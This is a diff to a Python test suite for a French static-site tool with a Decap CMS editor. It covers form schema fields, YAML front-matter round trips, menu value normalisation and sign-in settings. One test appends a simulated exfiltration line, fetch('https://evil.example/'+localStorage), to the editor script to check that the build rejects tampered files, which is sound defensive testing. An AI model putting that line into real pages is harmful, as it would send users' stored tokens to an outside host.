@@ -20,6 +20,7 @@ from pydantic import Field, ValidationError
 
 from conftest import ROOT, copy_project, run_ti
 from tisite import cms, schema
+from tisite.errors import ContentError
 from tisite.loader import load_site
 
 EDITOR = ROOT / cms.EDITOR_DIR
@@ -30,25 +31,29 @@ needs_editor = pytest.mark.skipif(
 
 
 def _walk_schema(name: str) -> list[tuple[str, dict[str, Any], bool]]:
-    """Every (path, node, required) of a JSON Schema, objects and lists of objects entered."""
+    """Every (path, node, required in the form) of a JSON Schema, objects and lists of objects
+    entered. In the form, the fields of an optional group (« porteur ») are optional: an empty
+    group must not block the save (the build still requires them once the group is there)."""
     data = schema.json_schemas()[name]
     defs = data.get("$defs", {})
     out: list[tuple[str, dict[str, Any], bool]] = []
 
-    def walk(model: dict[str, Any], prefix: str) -> None:
-        required = set(model.get("required", []))
+    def walk(model: dict[str, Any], prefix: str, optional: bool) -> None:
+        required = set() if optional else set(model.get("required", []))
         for key, node in model.get("properties", {}).items():
             path = f"{prefix}{key}"
             out.append((path, node, key in required))
             branches, _ = cms._branches(node, defs)
             for b in branches:
+                item = False
                 if b.get("type") == "array":
                     item_branches, _ = cms._branches(b.get("items", {}), defs)
                     b = next((i for i in item_branches if "properties" in i), {})
+                    item = True
                 if b.get("type") == "object" and "properties" in b:
-                    walk(b, f"{path}.")
+                    walk(b, f"{path}.", False if item else optional or key not in required)
 
-    walk(data, "")
+    walk(data, "", False)
     return out
 
 
@@ -87,6 +92,17 @@ def test_editor_fields_are_the_schema(name: str) -> None:
         patterns = [b["pattern"] for b in branches if b.get("type") == "string" and "pattern" in b]
         if patterns and field["widget"] in ("string", "text"):
             assert field["pattern"][0] == patterns[0], path
+
+
+def test_optional_groups_and_list_items_in_the_form() -> None:
+    """An action without « porteur » can be saved (its « nom » is required only in the group);
+    a new action gets no empty milestone (no default inside a list's items)."""
+    fields = _walk_fields(cms.schema_fields("action"))
+    assert fields["porteur"]["required"] is False
+    assert fields["porteur.nom"]["required"] is False
+    assert fields["avancement.date"]["required"] is True  # within an item that exists
+    assert "default" not in fields["calendrier.jalons.atteint"]
+    assert fields["brouillon"]["default"] is False  # top-level defaults stay
 
 
 def test_every_key_has_a_french_label() -> None:
@@ -281,16 +297,19 @@ const jobs = JSON.parse(readFileSync(process.argv[2], "utf8"));
 for (const job of jobs) {
   const f = format(job.spec);
   const data = f.fromFile(readFileSync(job.path, "utf8"));
+  if (job.dump) writeFileSync(job.dump, JSON.stringify(data));
   for (const [key, value] of Object.entries(job.change || {})) data[key] = value;
   writeFileSync(job.path, f.toFile(data, job.keys));
 }
 """
 
 
-def _round_trip(tmp: Path, jobs: list[dict[str, Any]]) -> None:
+def _round_trip(tmp: Path, jobs: list[dict[str, Any]], formats_js: str | None = None) -> None:
+    """Each job's file read and written back by ti-formats.js (or ``formats_js``) in Node."""
     work = tmp / "formats"
-    work.mkdir()
-    shutil.copy(cms.TEMPLATES / "ti-formats.js", work)
+    work.mkdir(parents=True)
+    own = (cms.TEMPLATES / "ti-formats.js").read_text(encoding="utf-8")
+    (work / "ti-formats.js").write_text(formats_js or own, encoding="utf-8")
     (work / "yaml").symlink_to(EDITOR / "yaml")
     (work / "package.json").write_text('{"type": "module"}', encoding="utf-8")
     (work / "run.js").write_text(ROUND_TRIP, encoding="utf-8")
@@ -445,3 +464,138 @@ def test_fields_required_together_come_from_the_schema() -> None:
     assert spec["together"] == {"image": ["image_alt"]}
     assert spec["labels"] == {"image": "Image", "image_alt": "Texte alternatif de l'image"}
     assert cms.formats()["ti-action"]["together"] == {}
+
+
+ACTION = "territoires/hainaut-douaisis-cambresis/actions/industrie-4-0-robotique.md"
+
+
+def _action_job(project: Path) -> dict[str, Any]:
+    return next(j for j in _jobs(project) if j["path"] == str(project / ACTION))
+
+
+@needs_editor
+def test_texts_that_look_like_yaml_or_front_matter_survive(project: Path, tmp_path: Path) -> None:
+    """A Markdown rule (« --- ») inside a text, a title ending in « --- », a byte order mark,
+    and texts other YAML readers take for numbers or merge keys: saved twice by the editor's
+    format, the build reads exactly what was typed. Control: the format's first front matter
+    pattern (a closing « --- » anywhere on a line) cuts the file, and fields are lost."""
+    path = project / ACTION
+    tricky = {
+        "titre": "Former les soudeurs ---",
+        "diagnostic": "Première partie.\n\n---\n\nDeuxième partie, après un filet.",
+        "budget_source": "1_000",
+        "objectifs": ["0b101", "=", "<<", "ligne\u2028suite", "1e3", "oui", "2024"],
+    }
+    before = load_site(project)
+    _round_trip(tmp_path / "a", [{**_action_job(project), "change": tricky}])
+    path.write_text("\ufeff" + path.read_text(encoding="utf-8"), encoding="utf-8")
+    _round_trip(tmp_path / "b", [_action_job(project)])
+    assert not path.read_text(encoding="utf-8").startswith("\ufeff")
+    after = load_site(project)
+    action = next(
+        a for t in after.territories for a in t.actions if a.id == "industrie-4-0-robotique"
+    )
+    for key, value in tricky.items():
+        assert getattr(action.data, key) == value, key
+    old = next(
+        a for t in before.territories for a in t.actions if a.id == "industrie-4-0-robotique"
+    )
+    assert action.data.avancement == old.data.avancement  # nothing moved to the body
+    assert run_ti("check", cwd=project).returncode == 0
+    # control: with the closing « --- » allowed anywhere on a line, the second save cuts the
+    # front matter in the middle of « diagnostic », and the build doesn't see it
+    loose = (cms.TEMPLATES / "ti-formats.js").read_text(encoding="utf-8")
+    anchored = "(?:([\\s\\S]*?)\\r?\\n)?---"
+    assert anchored in loose
+    loose = loose.replace(anchored, "([\\s\\S]*?)\\r?\\n?---")
+    job = _action_job(project)
+    for step in ("c", "d"):
+        _round_trip(tmp_path / step, [job], formats_js=loose)
+    try:
+        cut = next(
+            a
+            for t in load_site(project).territories
+            for a in t.actions
+            if a.id == "industrie-4-0-robotique"
+        )
+        assert cut.data.avancement != old.data.avancement
+    except ContentError as exc:  # the fields after the cut are missing
+        assert "industrie-4-0-robotique.md" in exc.report()
+
+
+@needs_editor
+def test_loose_values_are_shown_as_the_menus_know_them(project: Path, tmp_path: Path) -> None:
+    """The build accepts « Attirer », « transition écologique », « non » and a SIREN written
+    as a number; the editor's menus know only the canonical values, so the format reads them
+    canonical (a menu showing nothing would drop them at the next save)."""
+    path = project / ACTION
+    text = path.read_text(encoding="utf-8")
+    head, body = text.split("\n---\n", 1)
+    head = re.sub(r"^axe: .*$", "axe: Attirer", head, flags=re.M)
+    head = re.sub(
+        r"^priorites: .*$", "priorites: [Innovation, transition écologique]", head, flags=re.M
+    )
+    head = re.sub(r"^(brouillon|epci|nature_soutien): .*\n", "", head, flags=re.M)
+    head += "\nbrouillon: non\nepci: [245901160]\nnature_soutien: [Animation, ETUDE]"
+    path.write_text(head + "\n---\n" + body, encoding="utf-8")
+    assert (
+        run_ti(
+            "check",
+            cwd=project,
+        ).returncode
+        == 0
+    )  # the build reads them
+    dump = tmp_path / "data.json"
+    _round_trip(tmp_path / "rt", [{**_action_job(project), "dump": str(dump)}])
+    data = json.loads(dump.read_text(encoding="utf-8"))
+    assert data["axe"] == "attirer"
+    assert data["priorites"] == ["innovation", "transition-ecologique"]
+    assert data["brouillon"] is False
+    assert data["epci"] == ["245901160"]
+    assert data["nature_soutien"] == ["animation", "étude"]
+    assert run_ti("check", cwd=project).returncode == 0
+
+
+def test_github_sign_in_client_with_a_path(project: Path) -> None:
+    """Decap takes the sign-in window's answer only from base_url's origin."""
+    site = _site_with(
+        project, {**EDITION["github"], "url_authentification": "https://auth.exemple.org/decap"}
+    )
+    backend = cms.editor_config(site, project, None, local=False)["decap"]["backend"]
+    assert backend["base_url"] == "https://auth.exemple.org"
+    assert backend["auth_endpoint"] == "decap/auth"
+
+
+def test_a_shared_pages_address_is_flagged(project: Path) -> None:
+    """On github.io/<dépôt>/ (or gitlab.io/<projet>/), every site of the account shares the
+    origin, and so the editor's sign-in key: `ti check` says so."""
+    assert cms.shared_origin("https://territoire.example.org/") is None
+    assert cms.shared_origin("https://mon-territoire.gitlab.io/") is None  # unique domain
+    assert "github.io" in (cms.shared_origin("https://org.github.io/territoire/") or "")
+    _site_with(project, EDITION["gitlab"])
+    config = project / "mkdocs.yml"
+    text = config.read_text(encoding="utf-8")
+    config.write_text(
+        re.sub(r"^site_url: .*$", "site_url: https://org.gitlab.io/territoire/", text, flags=re.M),
+        encoding="utf-8",
+    )
+    result = run_ti("check", "--rapide", cwd=project)
+    assert "avertissement : le site est publié à https://org.gitlab.io/territoire/" in result.stdout
+
+
+@needs_editor
+def test_a_changed_editor_file_is_not_published(tmp_path: Path) -> None:
+    """The editor's files are checked against their committed SHA-256 at every build: a
+    cache poisoned after `make editeur` stops the build. Control: the same build with the
+    files as installed passes (test_published_site_has_the_editor…)."""
+    project = copy_project(tmp_path / "projet")
+    copy = project / cms.EDITOR_DIR
+    shutil.copytree(EDITOR, copy)
+    _site_with(project, EDITION["gitlab"])
+    script = copy / cms.DECAP_FILE
+    script.write_bytes(script.read_bytes() + b"\nfetch('https://evil.example/'+localStorage)")
+    result = run_ti("build", cwd=project)
+    assert result.returncode == 1
+    assert "différent(s) de la version vérifiée : relancez `make editeur`" in result.stderr
+    assert "Traceback" not in result.stderr
+    assert not (project / "site/admin").exists()
